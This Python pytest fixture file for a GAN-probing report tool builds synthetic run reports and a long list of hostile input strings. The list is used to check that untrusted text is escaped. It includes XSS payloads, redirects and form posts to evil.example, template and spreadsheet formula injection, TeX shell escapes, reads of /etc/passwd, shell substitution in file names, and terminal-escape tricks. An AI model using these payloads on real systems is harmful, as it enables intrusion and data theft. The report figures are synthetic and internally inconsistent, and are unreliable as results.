"""A report as a real run makes it: a probe with its controls, a sample grid, one analysis refused and one failed."""

from __future__ import annotations

from collections.abc import Callable

import numpy as np
import pytest

from gan_probe.report import Artifact, Figure, Measure, Report, RunReport, Table
from gan_probe.report.figures import confusion_chart, image_grid, interval_chart, new_figure

CLASSES = ["airplane", "automobile", "bird", "cat", "deer", "dog", "frog", "horse", "ship", "truck"]


def probe() -> Report:
    rng = np.random.default_rng(0)
    rows = [
        ("discriminator, all layers", 0.6142, 0.6046, 0.6237, 1e-4),
        ("discriminator, random weights", 0.4831, 0.4733, 0.4929, 1e-3),
        ("raw pixels", 0.3774, 0.3679, 0.3869, 1e-5),
    ]
    accuracy = Table(
        "accuracy",
        [
            {"features": f, "accuracy": a, "low": lo, "high": hi, "n_train": 5000, "n_test": 10000, "C": c}
            for f, a, lo, hi, c in rows
        ],
        "CIFAR-10 test accuracy of an L2-SVM",
        "One against the rest on 5,000 training images; low and high bound the 95 % Wilson interval over 10,000 test "
        "images. Controls: the same network with random weights, and raw pixels.",
        {"accuracy": ".1%", "low": ".1%", "high": ".1%", "C": ".0e"},
    )
    counts = rng.integers(10, 60, (10, 10)) + np.diag(rng.integers(400, 800, 10))
    recall = np.diag(counts) / counts.sum(1)
    curve = new_figure(6.0, 3.0)
    axes = curve.subplots()
    for name, top in (("trained", 0.61), ("random weights", 0.48)):
        axes.plot(range(1, 4), top - 0.12 / np.arange(1, 4), marker="o", label=name)
    axes.set_xticks(range(1, 4), ["conv 1", "conv 2", "conv 3"])
    axes.set_ylabel("test accuracy")
    axes.legend()
    return Report(
        tables=[accuracy],
        figures=[
            Figure(
                "classes",
                interval_chart(CLASSES, recall, recall - 0.03, recall + 0.03, "accuracy", ".1%"),
                "Accuracy by class",
                "95 % Wilson intervals, 1,000 test images a class.",
                "Ships are recognised best, cats worst.",
            ),
            Figure(
                "confusion",
                confusion_chart(counts, CLASSES),
                "Confusion",
                "Per cent of each true class; rows sum to 100.",
                "Most mistakes are between cats and dogs.",
            ),
            Figure("layers", curve, "Accuracy by layer", "One probe for each layer alone.", "Deeper layers do better."),
        ],
        findings=["Trained D names 64.0% of 10,000 test images rightly, random weights 41.3%: 22.7 points less."],
        notes=[
            "Batch norm uses the mean of batch statistics over the training images, as the release does.",
            "3 of 60,000 images were skipped because they could not be decoded; report.json names them.",
        ],
        name="linear-probe",
        title="Linear probe of the discriminator's features",
        options={"c_values": (1e-5, 1e-4, 1e-3, 1e-2), "bn": "recomputed", "validation": 0.2, "controls": True},
        plugin="linear-probe (gan-probe 0.1.0)",
        seconds=204.2,
    )


def samples() -> Report:
    rng = np.random.default_rng(1)
    y, x = np.mgrid[0:32, 0:32] / 31
    colours = rng.uniform(0, 1, (40, 1, 1, 3))
    waves = np.sin(6 * x[None, :, :, None] * colours + 5 * y[None, :, :, None] * (1 - colours) + 6 * colours)
    images = (127.5 + 127.4 * waves).astype(np.uint8)
    return Report(
        figures=[
            Figure(
                "grid",
                image_grid(images, 10),
                "Forty samples by the discriminator's score",
                "Best first, row by row.",
                "Forty small colour pictures.",
            )
        ],
        artifacts=[Artifact("latents.npz", b"PK", "The latents of the grid, in its order.")],
        name="samples",
        title="Samples",
        options={"n": 40, "columns": 10},
        plugin="samples (gan-probe 0.1.0)",
        seconds=1.84,
    )


def run_report() -> RunReport:
    def stage(inputs: int, outputs: int, **more: object) -> dict[str, object]:
        return {"op": "conv", "inputs": inputs, "outputs": outputs, **more}

    checkpoint = {
        "name": "dcgan_code_svhn",
        "format": "authors' release",
        "image_size": 32,
        "channels": 3,
        "z_size": 100,
        "z_distribution": "normal",
        "value_range": [-1.0, 1.0],
        "classes": [],
        "generator": [stage(100, 4096, shape=[256, 4, 4]), stage(256, 128), stage(128, 64), stage(64, 3)],
        "discriminator": [stage(3, 64), stage(64, 128), stage(128, 256), stage(4096, 1)],
        "training_data": "SVHN",
        "training": {},
        "licence": "MIT",
        "sha256": "9f2c4be1" * 8,
        "assumed": ["kernels are flipped", "batch statistics in batch norm"],
    }
    run = {
        "command": "gan-probe run --plugin linear-probe --plugin samples dcgan_code_svhn --data cifar10",
        "started": "2025-01-31 12:00:00+00:00",
        "seconds": 206.1,
        "versions": {"gan-probe": "0.1.0", "python": "3.11.9", "torch": "2.10.0", "numpy": "2.3.0"},
        "device": "cpu",
        "threads": 2,
        "seed": 0,
        "data": {"name": "cifar10", "fingerprint": "3b1d" * 16, "train": 50000, "test": 10000},
        "skipped": ["train/cat/0001.jpg: truncated", "train/cat/0002.jpg: empty", "test/dog/0003.jpg: an HTML page"],
    }
    refused = Report(
        name="inversion",
        title="Inversion",
        status="refused",
        error="inversion needs gradients, which an ONNX file does not give: pass the torch checkpoint",
        plugin="inversion (gan-probe-extras 1.2)",
    )
    failed = Report(
        name="vector-arithmetic",
        title="Vector arithmetic",
        status="failed",
        error="IndexError: index 3 is out of bounds for axis 0 with size 3 (arithmetic.py, line 41)",
        options={"pairs": 3},
        plugin="vector-arithmetic (gan-probe-extras 1.2)",
        seconds=0.4,
    )
    return RunReport(checkpoint, run, [probe(), samples(), refused, failed])


@pytest.fixture
def sample_run() -> RunReport:
    return run_report()


RADFORD = """@inproceedings{radford2016,
  author = {Radford, Alec and Metz, Luke and Chintala, Soumith},
  title = {Unsupervised Representation Learning with Deep Convolutional Generative Adversarial Networks},
  booktitle = {International Conference on Learning Representations},
  year = {2016}
}"""
HOSTILE = (
    # markup, in text, in attributes, and behind what it closes
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</style></title><svg/onload=alert(1)>",
    "</textarea></script><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "<form action=https://evil.example><input name=a><button>send</button></form>",
    "<object data=x></object><embed src=x><link rel=stylesheet href=//evil.example><base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "-->]]><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;&amp;",
    # addresses
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/?q=1",
    "file:///etc/passwd",
    # templates and styles
    "{{ 7*7 }}{% raw %}",
    "${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('alert(1)')()}}",
    "}body{display:none}\\3c script\\3e;background:url(//evil.example)",
    "%s %(name)s {0} {name!r:>99999}",
    # spreadsheets
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "|cmd",
    'a,b;c"d""\'e',
    # TeX
    "\\input{/etc/passwd} $x_1^2$ 100% #1 & ~ {}",
    "\\immediate\\write18{touch hacked}\\end{document}",
    "^^5cinput{/etc/passwd} \\catcode`\\%=12",
    # terminals, and what cannot be seen
    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
    "\x9b31m\x90\x84 c1",
    "over\rwritten\x08\x08\x08\x7f",
    "a\x00b",
    "abc\u202egnp.exe\u2066",
    "zero\u200bwidth\u2060\ufeff\u00ad",
    "a\r\nSet-Cookie: b\tc\u2028d\u2029e\x0bf\x0cg\x85h",
    # what is no text
    "name\udcff\ud800",
    "\ufffe\uffff\U0010ffff\ue000",
    # file names
    "../../../etc/x\x00.png",
    "CON",
    "aux.txt. ",
    "~/$HOME/`id`;$(id)|&*?",
    "C:\\Windows\\x",
    # other people's writing, long words, stacks of accents
    "中文 emoji 👩\u200d🔬 é ﬁ \U000e0001",
    "שלום עולם مرحبا",
    "Z" + "\u0324\u0310\u0352" * 40,
    "W" * 5000,
    "no words, " * 500,
)


@pytest.fixture(scope="session")
def hostiles() -> tuple[str, ...]:
    return HOSTILE


@pytest.fixture(params=HOSTILE, ids=range(len(HOSTILE)))
def hostile(request: pytest.FixtureRequest) -> str:
    text: str = request.param
    return text


def report_of(text: str) -> Report:
    """A report that says `text` wherever a plugin, a file or a user can say something."""
    pixels = np.zeros((2, 2), np.uint8)
    return Report(
        tables=[Table("t", [{text: text, "n": 1}], title=text, caption=text)],
        figures=[Figure("f", pixels, title=text, caption=text, alt=text)],
        artifacts=[Artifact(text, b"", caption=text)],
        measures=[Measure("m", np.zeros(2), title=text, unit=text, units=text)],
        methods=f"{text} [@radford2016]",
        references=(RADFORD,),
        findings=[text],
        notes=[text],
        name=text,
        title=text,
        status="failed",
        error=text,
        options={text: text},
        plugin=text,
    )


@pytest.fixture(scope="session")
def run_of() -> Callable[[str], RunReport]:
    """A run in which everything that has a text has this one."""
    return _run_of


def _run_of(text: str) -> RunReport:
    key = f"{text} of the user"  # and none of the page's own: such a card is another test's
    checkpoint = {"name": text, "format": text, "training_data": text, "licence": text, "classes": [text]}
    checkpoint |= {"assumed": [text, text], "training": {text: text}, key: [text]}
    run = {"command": text, "skipped": [text], "data": text, "versions": {"gan-probe": text}, "device": text}
    images = [{"split": text, "n": 3}]
    return RunReport(checkpoint, run | {"images": images, text: text}, [report_of(text)] * 2)
